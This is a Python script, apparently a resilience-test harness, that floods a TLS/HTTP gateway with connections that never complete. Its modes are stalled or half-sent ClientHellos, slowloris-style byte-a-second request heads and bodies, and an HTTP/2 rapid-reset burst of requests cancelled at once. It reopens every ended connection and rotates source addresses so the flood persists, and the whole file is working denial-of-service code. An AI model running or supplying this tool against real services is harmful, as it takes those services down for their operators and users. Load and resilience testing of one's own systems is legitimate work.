"""Many connections that never get anywhere: python3 mob.py KIND HOST ADDRESS ROOT COUNT SOURCE...

    silent      connects and says nothing
    half        half a ClientHello
    unfinished  a whole ClientHello, and no answer to the server's
    head        a request whose head comes by a byte a second
    body        a request whose body does
    reset       HTTP/2 requests that are taken back at once, as many as go out

Each that the gateway ends is opened again, so that the flood stands until it is killed. A line a second says how many
stand and how many have been ended so far, and how: by an answer's status, an alert, or just closed.
"""

import collections
import json
import selectors
import socket
import ssl
import sys
import time

from frames import GOAWAY, PREFACE, SETTINGS, frame, headers, split

kind, host, address, root, count, sources = *sys.argv[1:5], int(sys.argv[5]), sys.argv[6:]
context = ssl.create_default_context(cafile=root)
context.set_alpn_protocols(["h2" if kind == "reset" else "http/1.1"])
HEAD = f"POST /slow HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n"
ASK = [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/reset")]
BURST = 100


def hello():
    """A real one."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname=host).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


HELLO = hello()


class One:
    """One connection."""

    def __init__(self, number):
        self.said, self.stream_id, self.got = 0, 1, b""
        self.stream = socket.create_connection((address, 443), 30, (sources[number % len(sources)], 0))
        if kind in ("head", "body", "reset"):
            self.stream = context.wrap_socket(self.stream, server_hostname=host)
        first = {"half": HELLO[: len(HELLO) // 2], "unfinished": HELLO, "reset": PREFACE + SETTINGS}
        first |= {"head": HEAD.encode(), "body": HEAD.encode() + b"\r\n"}
        self.stream.sendall(first.get(kind, b""))
        self.stream.setblocking(False)

    def go_on(self):
        """A little more, of those that do."""
        if kind == "head":
            self.stream.send(b"x" if self.said == 0 else b"-")
        elif kind == "body":
            self.stream.send(b"x")
        elif kind == "reset":
            burst = b""
            for _ in range(BURST):
                burst += headers(self.stream_id, ASK, end=True) + frame(3, 0, self.stream_id, b"\0\0\0\x08")
                self.stream_id += 2
            self.stream.send(burst)
        self.said += 1

    def over(self):
        """Whether the gateway has ended it."""
        try:
            while more := self.stream.recv(65536):
                self.got += more
            return True
        except (ssl.SSLWantReadError, BlockingIOError):
            return False
        except OSError:
            return True

    def how(self):
        if self.got.startswith(b"HTTP/1.1 "):
            return self.got[9:12].decode()
        if kind == "reset":
            return "goaway" if any(one[0] == GOAWAY for one in split(self.got)) else "closed"
        return "alert" if self.got[:1] == b"\x15" else "closed"


ended, failed = collections.Counter(), collections.Counter()
watched = selectors.EpollSelector()
standing = {}


def open_one(number):
    try:
        one = standing[number] = One(number)
        watched.register(one.stream, selectors.EVENT_READ, number)
    except OSError as error:
        failed[type(error).__name__] += 1


def close_one(number):
    one = standing.pop(number)
    watched.unregister(one.stream)
    one.stream.close()
    ended[one.how()] += 1


def turn(numbers, work):
    for number in numbers:
        try:
            if work(standing[number]):
                close_one(number)
        except (ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            close_one(number)


said = began = time.monotonic()
while True:
    # A few at a time, so that those that stand are looked after meanwhile.
    for number in [number for number in range(count) if number not in standing][:50]:
        open_one(number)
    turn([key.data for key, _ in watched.select(0.005)], One.over)
    pace = 0.02 if kind == "reset" else 1
    if kind in ("head", "body", "reset") and time.monotonic() - began >= pace:
        began = time.monotonic()
        turn(list(standing), One.go_on)
    if time.monotonic() - said >= 1:
        said = time.monotonic()
        print(json.dumps({"standing": len(standing), "ended": ended, "failed": failed}), flush=True)
